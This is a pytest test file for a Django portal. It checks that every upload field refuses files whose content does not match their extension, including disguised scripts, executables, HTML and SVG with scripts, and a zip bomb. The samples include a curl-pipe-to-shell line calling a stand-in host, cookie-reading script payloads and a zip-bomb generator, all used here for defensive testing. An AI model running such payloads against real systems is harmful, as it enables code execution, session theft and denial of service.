"""Files whose content is not what their name says are refused at every upload field, through
the real pages and API, and nothing is stored: a script named .pdf, a program named .png, a web
page named .docx, an SVG with a script named .jpg, a zip named .docx, a PDF named .png for a
screen's image, and a zip bomb named .xlsx for the import.

``test_every_upload_field_is_tried`` finds the file fields of every form, so a new upload field
must be added here."""

import datetime as dt
import inspect
import io
import zipfile

import pytest
from django import forms as django_forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from enterprises import forms as enterprise_forms
from enterprises import services
from enterprises.models import Appeal, Attachment, Celebration, Enterprise
from portal import forms as portal_forms
from portal.imports import MAX_UNPACKED_BYTES
from portal.models import ImportJob
from tests.factories import category, uscc_for
from tests.security.world import PNG, SESSION_DAY, pdf

pytestmark = pytest.mark.django_db


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48
WEB_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PLAIN_ZIP = _zip({"readme.txt": b"not an office document"})

# (file name, content): wrong content behind a good extension.
BAD_FILES = [
    ("申请材料.pdf", SCRIPT),
    ("照片.png", PROGRAM),
    ("方案.docx", WEB_PAGE),
    ("扫描件.jpg", SVG),
    ("报表.docx", PLAIN_ZIP),
    ("报表.xlsx", PROGRAM),
]
# A screen shows images only: a real PDF is not one.
BAD_IMAGES = [*BAD_FILES, ("海报.png", pdf("a real pdf")), ("海报.gif", WEB_PAGE)]


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def stored_files(settings) -> list:
    root = settings.MEDIA_ROOT
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def as_user(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- every upload field -----------------------------------------------------------------------

# (module, form class, field): each is tried below.
TRIED = {
    ("enterprises.forms.appeals", "AppealForm", "files"),
    ("enterprises.forms.appeals", "ProvideInfoForm", "files"),
    ("enterprises.forms.appeals", "SubmitPartForm", "files"),
    ("enterprises.forms.appeals", "ReplyForm", "files"),
    ("enterprises.forms.sessions", "NeedForm", "files"),
    ("enterprises.forms.celebrations", "CelebrationForm", "image"),
    ("portal.forms", "ImportUploadForm", "file"),
}


def _form_classes():
    import importlib
    import pkgutil

    modules = [portal_forms]
    for info in pkgutil.iter_modules(enterprise_forms.__path__):
        modules.append(importlib.import_module(f"enterprises.forms.{info.name}"))
    for module in modules:
        for _name, cls in inspect.getmembers(module, inspect.isclass):
            if issubclass(cls, django_forms.BaseForm) and cls.__module__ == module.__name__:
                yield module.__name__, cls


def test_every_upload_field_is_tried():
    found = {
        (module, cls.__name__, name)
        for module, cls in _form_classes()
        for name, field in cls.base_fields.items()
        if isinstance(field, django_forms.FileField)
    }
    assert found == TRIED, f"upload fields not tried here: {found - TRIED}"


# --- appeals: submission (page and API), answers, parts, replies -----------------------------


@pytest.mark.parametrize(("name", "content"), BAD_FILES)
def test_appeal_submission_page_refuses_it(world, settings, name, content):
    owner = world.people["entrepreneur"]
    before = Appeal.objects.count()
    response = as_user(owner).post(
        "/appeals/new/",
        {
            "enterprise": world.extra["a"].pk,
            "category": category().pk,
            "title": "附件有问题的诉求",
            "content": "内容",
            "files": upload(name, content),
        },
    )
    assert response.status_code == 400
    assert Appeal.objects.count() == before


@pytest.mark.parametrize(("name", "content"), BAD_FILES)
def test_appeal_submission_api_refuses_it(world, name, content):
    client = Client()
    client.force_login(world.people["entrepreneur"])
    before = Appeal.objects.count()
    response = client.post(
        "/api/v1/appeals/",
        {
            "enterprise": world.extra["a"].pk,
            "category": category().pk,
            "title": "附件有问题的诉求",
            "content": "内容",
            "files": upload(name, content),
        },
    )
    assert response.status_code == 400
    assert "files" in response.json()
    assert Appeal.objects.count() == before


def _co_handled(world):
    """``appeal_a`` routed again with department 2 co-handling, and a question waiting."""
    appeal, handler = world.extra["appeal_a"], world.people["handler"]
    dispatcher = world.people["dispatcher"]
    services.appeal_approve_extension(appeal=appeal, actor=dispatcher)
    services.appeal_return(appeal=appeal, actor=handler, reason="需要协办单位")
    services.appeal_assign(
        appeal=appeal,
        actor=dispatcher,
        department=handler.department,
        co_departments=[world.extra["dept2"]],
    )
    services.appeal_sign(appeal=appeal, actor=handler)
    return appeal


@pytest.mark.parametrize(("name", "content"), BAD_FILES)
def test_answers_parts_and_replies_refuse_it(world, settings, name, content):
    appeal = _co_handled(world)
    handler, owner = world.people["handler"], world.people["entrepreneur"]
    co_handler = world.extra["handler2"]
    attachments = Attachment.objects.count()
    files_before = stored_files(settings)

    reply = as_user(handler).post(
        f"/appeals/{appeal.pk}/reply/",
        {"reply-content": "答复", "reply-files": upload(name, content)},
    )
    part = as_user(co_handler).post(
        f"/appeals/{appeal.pk}/submit-part/",
        {"submit_part-content": "协办意见", "submit_part-files": upload(name, content)},
    )
    services.appeal_request_info(appeal=appeal, actor=handler, question="请补充合同")
    answer = as_user(owner).post(
        f"/appeals/{appeal.pk}/provide-info/",
        {"provide_info-content": "见附件", "provide_info-files": upload(name, content)},
    )

    assert (reply.status_code, part.status_code, answer.status_code) == (400, 400, 400)
    assert Attachment.objects.count() == attachments
    assert stored_files(settings) == files_before
    appeal.refresh_from_db()
    assert appeal.status == "in_progress" and appeal.awaiting_info


@pytest.mark.parametrize(("name", "content"), BAD_FILES)
def test_a_need_recorded_at_a_session_refuses_it(world, name, content):
    session = world.extra["session1"]
    before = Appeal.objects.count()
    response = as_user(world.people["dispatcher"]).post(
        f"/enterprises/sessions/{session.pk}/needs/new/",
        {
            "enterprise": world.extra["a"].pk,
            "category": category().pk,
            "title": "会上提出的诉求",
            "content": "内容",
            "leader": world.people["leader"].pk,
            "instruction": "请牵头办理",
            "files": upload(name, content),
        },
    )
    assert response.status_code == 400
    assert Appeal.objects.count() == before


# --- a light-up day's image --------------------------------------------------------------------


@pytest.mark.parametrize(("name", "content"), BAD_IMAGES)
def test_a_light_up_days_image_must_be_an_image(world, settings, name, content):
    day = SESSION_DAY + dt.timedelta(days=3)
    before = Celebration.objects.count()
    files_before = stored_files(settings)
    response = as_user(world.people["entrepreneur"]).post(
        "/enterprises/celebrations/new/",
        {
            "enterprise": world.extra["a"].pk,
            "kind": "listing",
            "screen_text": "热烈祝贺成功上市",
            "starts_on": day.isoformat(),
            "ends_on": day.isoformat(),
            "screens": [world.extra["hall"].pk],
            "image": upload(name, content),
        },
    )
    assert response.status_code == 400
    assert "image" in response.context["form"].errors
    assert Celebration.objects.count() == before
    assert stored_files(settings) == files_before


def test_a_real_image_is_accepted_on_the_same_form(world):
    """The refusals above are about the content: the same request with a PNG succeeds."""
    day = SESSION_DAY + dt.timedelta(days=3)
    response = as_user(world.people["entrepreneur"]).post(
        "/enterprises/celebrations/new/",
        {
            "enterprise": world.extra["a"].pk,
            "kind": "listing",
            "screen_text": "热烈祝贺成功上市",
            "starts_on": day.isoformat(),
            "ends_on": day.isoformat(),
            "screens": [world.extra["hall"].pk],
            "image": upload("海报.png", PNG),
        },
    )
    assert response.status_code == 302


# --- the Excel import ------------------------------------------------------------------------


def _bomb() -> bytes:
    """An .xlsx-looking package whose one part unpacks past the import's limit (≈ 200 KB zipped)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(MAX_UNPACKED_BYTES // len(chunk) + 1):
                part.write(chunk)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("企业名录.xlsx", WEB_PAGE),
        ("企业名录.xlsx", PROGRAM),
        ("企业名录.xlsx", PLAIN_ZIP),
        ("企业名录.xlsx", "bomb"),
    ],
)
def test_the_import_refuses_it(world, name, content):
    content = _bomb() if content == "bomb" else content
    before = Enterprise.objects.count()
    jobs = ImportJob.objects.count()
    response = as_user(world.people["dispatcher"]).post(
        "/imports/new/", {"kind": "enterprises.directory", "file": upload(name, content)}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert ImportJob.objects.count() == jobs
    assert Enterprise.objects.count() == before


def test_a_good_row_still_imports(world):
    from openpyxl import Workbook

    from enterprises.imports import COLUMNS

    workbook = Workbook()
    workbook.active.append([column.header for column in COLUMNS])
    workbook.active.append([uscc_for(4242), "衢州导入测试有限公司", "柯城区"])
    out = io.BytesIO()
    workbook.save(out)
    client = as_user(world.people["dispatcher"])
    response = client.post(
        "/imports/new/",
        {"kind": "enterprises.directory", "file": upload("企业名录.xlsx", out.getvalue())},
    )
    assert response.status_code == 302
    job = ImportJob.objects.latest("pk")
    mapping = {f"column_{i}": job.mapping[h] for i, h in enumerate(job.headers)}
    assert client.post(f"/imports/{job.pk}/check/", mapping).status_code == 302
    response = client.post(f"/imports/{job.pk}/apply/", {"mode": "all"})
    assert response.status_code == 302
    assert Enterprise.objects.filter(name="衢州导入测试有限公司").exists()
